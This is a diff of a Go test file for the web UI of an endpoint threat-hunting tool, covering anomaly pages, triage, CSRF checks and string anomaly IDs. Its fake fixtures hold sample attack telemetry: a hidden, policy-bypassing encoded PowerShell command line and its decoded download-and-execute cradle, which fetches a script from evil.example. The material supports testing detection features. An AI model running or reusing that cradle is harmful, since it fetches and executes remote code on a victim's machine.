@@ -331,7 +331,8 @@ func TestPagesRender(t *testing.T) {
 	c := f.client()
 	c.login(adminToken)
 	want := map[string][]string{
-		"/ui/":                        {"windows", "linux", "Recent live queries", "process_lineage", "By technique", "T1059.001", "execution"},
+		"/ui/": {"windows", "linux", "Recent live queries", "process_lineage", "By technique", "T1059.001", "execution",
+			"Highest ranked", `<a href="/ui/anomalies/7"><code class="break">winword.exe → powershell.exe</code></a>`},
 		"/ui/hosts":                   {"win-1", "lnx-1", "online", "offline", "/ui/hosts/1/tree"},
 		"/ui/console":                 {`id="sql"`, "win-1 (windows)", "lnx-1 (linux, offline)", `data-schema="/ui/static/schema.json"`},
 		"/ui/hosts/1/tree":            {"Run process_lineage now"},
@@ -339,8 +340,10 @@ func TestPagesRender(t *testing.T) {
 		"/ui/hosts/1/scripts?query=2": {"0d1c-block", "download_cradle"},
 		"/ui/hosts/1/scripts/view?query=2&block=0d1c-block": {"Script text as logged (2 of 2 parts", "Decoded", "invoke_expression",
 			"DownloadString(&#39;https://x.example/p.ps1&#39;)"},
-		"/ui/anomalies":       {"winword.exe", "rare: 1 of 40 hosts", "T1059.001"},
-		"/ui/anomalies/7":     {"Evidence rows", "invoice.docm", "Suppress because", "2.5%"},
+		"/ui/anomalies": {"winword.exe → powershell.exe", "rare: 1 of 40 hosts", "T1059.001", "rarity/rare_parent_child"},
+		// The command line whole, and the text the agent decoded from it.
+		"/ui/anomalies/7": {"Evidence rows", "invoice.docm", "Suppress because", "2.5%", `<pre class="cmdline">` + longEncodedCmdline + "</pre>",
+			"Decoded command", "DownloadString(&#39;http://evil.example/stage2.ps1&#39;)", "<code>rarity/rare_parent_child</code>"},
 		"/ui/hunts":           {"every 2 hours, UTC", "Run now", "execution"},
 		"/ui/hunts/execution": {"Run history", "every 2 hours, UTC", "3 / 0 / 1 of 4"},
 	}
@@ -491,7 +494,7 @@ func TestCSRF(t *testing.T) {
 		t.Errorf("suppress without a reason: %d", resp2.StatusCode)
 	}
 	resp2, _ = c.do(http.MethodPost, "/ui/anomalies/7/triage", url.Values{"csrf": {c.csrf}, "action": {"suppress"}, "reason": {"IT script"}}, nil)
-	if a, _ := f.anomalies.Anomaly(context.Background(), 7); resp2.StatusCode != http.StatusSeeOther || a.State != apiv1.TriageSuppressed || a.Reason != "IT script" || a.By != "admin-user" {
+	if a, _ := f.anomalies.Anomaly(context.Background(), "7"); resp2.StatusCode != http.StatusSeeOther || a.State != apiv1.TriageSuppressed || a.Reason != "IT script" || a.By != "admin-user" {
 		t.Errorf("suppress: %d %+v", resp2.StatusCode, a)
 	}
 	resp2, _ = c.do(http.MethodPost, "/ui/hunts/execution/run", url.Values{"csrf": {c.csrf}}, nil)
@@ -632,27 +635,32 @@ func TestSchemaIndex(t *testing.T) {
 
 // --- fakes of the services behind the operator API's hunt and anomaly routes ---
 
+// longEncodedCmdline is longer than any cell the UI would once cut.
+const longEncodedCmdline = "powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -EncodedCommand " +
+	"SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAA="
+
 type fakeAnomalies struct {
 	mu sync.Mutex
-	m  map[int64]apiv1.Anomaly
+	m  map[string]apiv1.Anomaly
 }
 
 func newFakeAnomalies() *fakeAnomalies {
 	t0 := time.Date(2026, 11, 1, 8, 0, 0, 0, time.UTC)
-	mk := func(id int64, hunt, tech, sev, parent, name string, hosts, answered int) apiv1.Anomaly {
-		sk := apiv1.Stack{Query: hunt + "_office_children", Key: parent + "|" + name,
+	mk := func(id string, hunt, tech, sev, parent, name string, hosts, answered int) apiv1.Anomaly {
+		sk := apiv1.Stack{Query: hunt + "_office_children", Key: parent + "|" + name, Queries: []string{hunt + "_office_children", "rarity/rare_parent_child"},
 			Values: map[string]string{"parent_name": parent, "name": name}, HostCount: hosts, Rows: 3,
 			FirstSeen: t0, LastSeen: t0.Add(time.Hour), MaxScore: 90, Indicators: []string{"office_child_shell"},
 			Examples: []apiv1.Example{{Host: "win-1", Time: t0, Row: map[string]string{"parent_name": parent, "name": name,
-				"cmdline": "WINWORD.EXE /n invoice.docm"}}}}
-		return apiv1.Anomaly{ID: id, Hunts: []string{hunt}, State: apiv1.TriageOpen, Hosts: []string{"win-1"},
+				"cmdline": "WINWORD.EXE /n invoice.docm"}}, {Host: "win-2", Time: t0, Row: map[string]string{"parent_name": parent, "name": name,
+				"score": "90", "cmdline": longEncodedCmdline, "decoded_command": "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/stage2.ps1')"}}}}
+		return apiv1.Anomaly{ID: id, Hunts: []string{hunt}, State: apiv1.TriageOpen, Hosts: []string{"win-1", "win-2"},
 			Stack: sk, Technique: tech, Severity: sev, Prevalence: float64(hosts) / float64(answered),
 			Answered: answered, Rare: true, New: true, HighScore: true, Rank: 0.9,
 			Reasons: []string{fmt.Sprintf("rare: %d of %d hosts", hosts, answered), "new: not in the baseline", "score 90"}}
 	}
-	return &fakeAnomalies{m: map[int64]apiv1.Anomaly{
-		7: mk(7, "execution", "T1059.001", "high", "winword.exe", "powershell.exe", 1, 40),
-		8: mk(8, "execution", "T1218.010", "medium", "explorer.exe", "regsvr32.exe", 2, 40),
+	return &fakeAnomalies{m: map[string]apiv1.Anomaly{
+		"7": mk("7", "execution", "T1059.001", "high", "winword.exe", "powershell.exe", 1, 40),
+		"8": mk("8", "execution", "T1218.010", "medium", "explorer.exe", "regsvr32.exe", 2, 40),
 	}}
 }
 
@@ -660,7 +668,7 @@ func (f *fakeAnomalies) Anomalies(_ context.Context, fl anomalies.Filter) ([]api
 	f.mu.Lock()
 	defer f.mu.Unlock()
 	var out []apiv1.Anomaly
-	for _, id := range []int64{7, 8} {
+	for _, id := range []string{"7", "8"} {
 		a := f.m[id]
 		if (fl.State == "" || a.State == fl.State) && (fl.Technique == "" || a.Technique == fl.Technique) {
 			out = append(out, a)
@@ -669,7 +677,7 @@ func (f *fakeAnomalies) Anomalies(_ context.Context, fl anomalies.Filter) ([]api
 	return out, nil
 }
 
-func (f *fakeAnomalies) Anomaly(_ context.Context, id int64) (apiv1.Anomaly, error) {
+func (f *fakeAnomalies) Anomaly(_ context.Context, id string) (apiv1.Anomaly, error) {
 	f.mu.Lock()
 	defer f.mu.Unlock()
 	a, ok := f.m[id]
@@ -679,7 +687,7 @@ func (f *fakeAnomalies) Anomaly(_ context.Context, id int64) (apiv1.Anomaly, err
 	return a, nil
 }
 
-func (f *fakeAnomalies) Triage(_ context.Context, id int64, state, reason, by string) (apiv1.Anomaly, error) {
+func (f *fakeAnomalies) Triage(_ context.Context, id, state, reason, by string) (apiv1.Anomaly, error) {
 	f.mu.Lock()
 	defer f.mu.Unlock()
 	a, ok := f.m[id]
@@ -798,7 +806,7 @@ func TestUIActionsGoThroughTheAPI(t *testing.T) {
 	f.hunts.ran = ""
 	f.hunts.mu.Unlock()
 	resp, _ = c.do(http.MethodPost, "/ui/anomalies/8/triage", url.Values{"csrf": {c.csrf}, "action": {"resolve"}}, nil)
-	if a, _ := f.anomalies.Anomaly(ctx, 8); a.State != apiv1.TriageOpen || resp.StatusCode == http.StatusSeeOther && strings.HasPrefix(resp.Header.Get("Location"), "/ui/anomalies/") {
+	if a, _ := f.anomalies.Anomaly(ctx, "8"); a.State != apiv1.TriageOpen || resp.StatusCode == http.StatusSeeOther && strings.HasPrefix(resp.Header.Get("Location"), "/ui/anomalies/") {
 		t.Errorf("a revoked session triaged anomaly 8: %d %s, state %s", resp.StatusCode, resp.Header.Get("Location"), a.State)
 	}
 	resp, _ = c.do(http.MethodPost, "/ui/hunts/execution/run", url.Values{"csrf": {c.csrf}}, nil)
